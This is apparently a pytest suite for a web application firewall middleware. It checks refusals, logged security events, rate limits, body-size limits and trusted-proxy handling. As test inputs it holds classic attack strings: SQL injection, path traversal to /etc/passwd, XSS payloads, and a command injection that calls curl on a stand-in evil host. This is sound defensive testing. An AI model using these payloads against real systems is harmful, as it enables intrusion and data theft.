"""The firewall middleware over real HTTP requests (TestClient): refusals, their events, limits, body size."""

from __future__ import annotations

import json
import logging
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from fastapi.testclient import TestClient

from cardwise.config import Settings
from cardwise.security.waf import FirewallMiddleware
from cardwise.security.waf_rules import DEFAULT_RULES
from tests.auth_helpers import bearer, token_for
from tests.security.waf_fixtures import client_for, make_settings, migrated, stored_events


@pytest.fixture
def waf_settings(tmp_path: Path) -> Settings:
    return migrated(make_settings(tmp_path / "var"))


@pytest.fixture
def client(waf_settings: Settings) -> Iterator[TestClient]:
    with client_for(waf_settings) as (_, c):
        yield c


def rules_file(tmp_path: Path, **limits: str) -> Path:
    """The default rules with some rate limits replaced (id → limit)."""
    data = yaml.safe_load(DEFAULT_RULES.read_text(encoding="utf-8"))
    for rl in data["rate_limits"]:
        if rl["id"] in limits:
            rl["limit"] = limits[rl["id"]]
    path = tmp_path / "rules.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def test_attack_in_query_is_refused_with_a_reference_that_finds_the_stored_event(waf_settings: Settings) -> None:
    with client_for(waf_settings) as (app, c):
        r = c.get("/healthz", params={"q": "1' OR '1'='1"})
        assert r.status_code == 403
        body = r.json()
        assert "차단" in body["detail"] and "firewall" in body["detail"]
        assert r.headers["x-cardwise-reference"] == body["reference"]
        rows = stored_events(app, kind="waf_blocked")
    assert len(rows) == 1
    row = rows[0]
    assert row.outcome == "failure" and row.source_ip == "testclient"
    assert row.detail["reference"] == body["reference"]
    assert row.detail["rule"] == "sqli-tautology" and row.detail["target"] == "query"
    assert row.detail["path"] == "/healthz" and row.detail["method"] == "GET"


@pytest.mark.parametrize(
    ("method", "path", "kwargs"),
    [
        ("GET", "/healthz/..%2F..%2Fetc%2Fpasswd", {}),
        ("POST", "/v1/events", {"json": {"events": [{"page": "<script>alert(1)</script>"}]}}),
        ("POST", "/v1/events", {"json": {"events": [{"page": {"nested": ["ok", "1; DROP TABLE users"]}}]}}),
        ("POST", "/v1/events", {"json": {"<svg onload=alert(1)>": 1}}),
        (
            "POST",
            "/v1/events",
            {"content": b'{"page": "\\u003cscript\\u003e"}', "headers": {"content-type": "application/json"}},
        ),
        ("POST", "/v1/auth/token", {"data": {"username": "admin' --", "password": "x"}}),
        ("GET", "/healthz", {"headers": {"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
        ("PUT", "/v1/cards/1/controls", {"content": "$(curl evil.example)", "headers": {"content-type": "text/plain"}}),
    ],
)
def test_attacks_are_refused_before_the_view(client: TestClient, method: str, path: str, kwargs: dict) -> None:
    r = client.request(method, path, **kwargs)
    assert r.status_code == 403, r.text
    assert len(r.json()["reference"]) == 16


def test_legitimate_payloads_reach_the_views(client: TestClient) -> None:
    """Korean text, apostrophes, ampersands and JSON syntax are not attacks: the views answer (401/404/422…)."""
    transcript = {
        "customer_id": 1,
        "started_at": "2023-09-01T10:00:00+09:00",
        "channel": "phone",
        "text": "상담사: 안녕하세요 고객님. 고객: McDonald's & Ben's 결제가 두 번 됐어요; 확인 부탁 -- 감사",
    }
    for method, path, body in [
        ("POST", "/v1/transcripts", transcript),
        ("POST", "/v1/events", {"events": [{"page": "/cards?tab=limits&sort=desc", "device": "ios"}]}),
        ("PUT", "/v1/cards/1/controls", {"blocked_categories": ["BAR"], "note": "Tom's or Jerry's"}),
    ]:
        r = client.request(method, path, json=body)
        assert r.status_code not in (403, 413, 429, 500), (path, r.status_code, r.text)


def test_disabled_firewall_lets_everything_through(tmp_path: Path) -> None:
    with client_for(make_settings(tmp_path, waf_enabled=False)) as (_, c):
        assert c.get("/healthz", params={"q": "<script>"}).status_code == 200


def test_oversized_bodies_are_413_by_header_and_by_count(client: TestClient) -> None:
    big = b"x" * (1_048_576 + 1)
    r = client.post("/v1/events", content=big, headers={"content-type": "application/json"})
    assert r.status_code == 413 and "1,048,576" in r.json()["detail"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: the middleware counts while reading
        for _ in range(17):
            yield b"y" * 65_536

    r = client.post("/v1/events", content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 413
    # Exactly at the limit is allowed through to the view (which then judges the JSON).
    r = client.post("/v1/events", content=b" " * 1_048_576, headers={"content-type": "application/json"})
    assert r.status_code != 413


def test_rate_limit_per_address_with_retry_after_and_events(tmp_path: Path) -> None:
    settings = migrated(make_settings(tmp_path / "var", waf_rules_path=rules_file(tmp_path, ip_default="5/minute")))
    with client_for(settings) as (app, c):
        codes = [c.get("/v1/lake").status_code for _ in range(7)]
        assert codes[:5] == [401] * 5 or all(x != 429 for x in codes[:5])
        assert codes[5:] == [429, 429]
        r = c.get("/v1/lake")
        assert r.status_code == 429 and 1 <= int(r.headers["retry-after"]) <= 61
        assert "Too many requests" in r.json()["detail"]
        # Health checks are exempt from every limit.
        assert all(c.get("/healthz").status_code == 200 for _ in range(10))
        rows = stored_events(app, kind="rate_limited")
    assert len(rows) == 3 and {r.detail["rule"] for r in rows} == {"ip_default"}


def test_rate_limit_per_account_keys_on_the_verified_token(tmp_path: Path) -> None:
    settings = migrated(
        make_settings(tmp_path / "var", waf_rules_path=rules_file(tmp_path, account_default="3/minute"))
    )
    alice = bearer(token_for("customer", customer_id=11, user_id=111, settings=settings))
    bob = bearer(token_for("customer", customer_id=12, user_id=112, settings=settings))
    forged = bearer(token_for("customer", customer_id=11, user_id=111, settings=Settings(jwt_secret="x" * 40)))
    with client_for(settings) as (app, c):
        assert [c.get("/v1/lake", headers=alice).status_code == 429 for _ in range(4)] == [False] * 3 + [True]
        assert c.get("/v1/lake", headers=bob).status_code != 429  # another account, its own bucket
        # A token that does not verify cannot spend (or exhaust) Alice's bucket: it is keyed by address only.
        assert c.get("/v1/lake", headers=forged).status_code == 401
        row = stored_events(app, kind="rate_limited")[0]
    assert row.user_name == "customer:11" and row.detail["rule"] == "account_default"


def test_shared_redis_counts_requests_of_every_worker(tmp_path: Path) -> None:
    """Two app instances (two server workers) share one Redis: the account's limit holds across both."""
    redis = pytest.importorskip("redis")
    try:
        redis.Redis.from_url("redis://127.0.0.1:6379/0", socket_connect_timeout=1).ping()
    except redis.exceptions.ConnectionError:
        pytest.skip("no Redis on 127.0.0.1:6379")
    path = rules_file(tmp_path, account_default="4/minute")
    settings = make_settings(tmp_path / "var", waf_rules_path=path, waf_storage_url="redis://127.0.0.1:6379/0")
    customer = {"X-Customer-Id": str(uuid.uuid4().int % 10**15 + 1)}  # a fresh account per run
    with client_for(settings) as (_, one), client_for(settings) as (_, two):
        codes = [(one if i % 2 else two).get("/v1/nothing-here", headers=customer).status_code for i in range(6)]
    assert codes == [404, 404, 404, 404, 429, 429]


def test_client_address_from_forwarded_for_only_behind_a_trusted_proxy(tmp_path: Path) -> None:
    mw = FirewallMiddleware(lambda s, r, se: None, settings=make_settings(tmp_path))  # type: ignore[arg-type,return-value]
    assert mw.client_ip({"client": ("10.0.0.5", 1)}, "203.0.113.9, 10.0.0.7") == "203.0.113.9"
    assert mw.client_ip({"client": ("198.51.100.1", 1)}, "203.0.113.9") == "198.51.100.1"  # untrusted peer
    assert mw.client_ip({"client": ("127.0.0.1", 1)}, "10.0.0.2") == "127.0.0.1"  # only proxies: the peer


def test_account_addresses_emit_once_at_the_threshold(waf_settings: Settings) -> None:
    with client_for(waf_settings) as (app, c):
        mw = app.middleware_stack
        for _ in range(5):
            mw = getattr(mw, "app", None)
            if isinstance(mw, FirewallMiddleware):
                break
        assert isinstance(mw, FirewallMiddleware)
        for i in range(4):
            assert mw.addresses.see("customer:5", f"192.0.2.{i}", time.monotonic()) is None
        headers = {"X-Customer-Id": "5"}
        c.get("/healthz", headers=headers)  # the 5th address (testclient) reaches the threshold of 5
        c.get("/healthz", headers=headers)
        rows = stored_events(app, kind="account_many_addresses")
    assert len(rows) == 1 and rows[0].user_name == "customer:5" and rows[0].detail["addresses"] == 5


def test_a_database_failure_does_not_fail_the_request(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    settings = make_settings(tmp_path / "var")  # not migrated: no security_events table
    caplog.set_level(logging.ERROR, logger="cardwise.security")
    with client_for(settings) as (app, c):
        assert c.get("/healthz", params={"q": "<script>"}).status_code == 403
        app.state.security_events.flush()
    assert any("security events not stored" in r.getMessage() for r in caplog.records)


def test_refusals_are_json_with_the_content_length(client: TestClient) -> None:
    r = client.get("/healthz", params={"x": "../../etc/passwd"})
    assert r.headers["content-type"] == "application/json"
    assert int(r.headers["content-length"]) == len(r.content) and json.loads(r.content)["reference"]


def test_the_analysts_sql_box_is_not_pattern_inspected(client: TestClient) -> None:
    """SQL is the payload there (its guard is the read-only query checker); its query string still is."""
    sql = "SELECT category_code FROM transactions WHERE category_code = 'JEWELRY' OR channel = 'overseas'"
    r = client.post("/analyst/query", data={"sql": sql})
    assert r.status_code != 403
    assert client.post("/analyst/query?x=<script>", data={"sql": "SELECT 1"}).status_code == 403
    assert client.post("/v1/events", data={"sql": sql}).status_code == 403  # elsewhere it is an attack
